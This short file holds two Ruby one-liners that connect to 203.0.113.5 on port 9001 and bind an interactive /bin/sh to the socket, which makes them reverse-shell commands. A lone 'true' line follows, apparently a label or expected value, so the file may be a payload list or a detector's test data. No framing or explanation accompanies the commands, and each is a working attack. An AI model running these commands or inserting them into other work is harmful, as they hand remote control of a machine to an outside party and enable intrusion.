ruby -rsocket -e 'f=TCPSocket.open("203.0.113.5",9001).to_i;exec sprintf("/bin/sh -i <&%d >&%d 2>&%d",f,f,f)'
ruby -rsocket -e 's=TCPSocket.new("203.0.113.5",9001);exec("/bin/sh","-i",0=>s,1=>s,2=>s)'
true
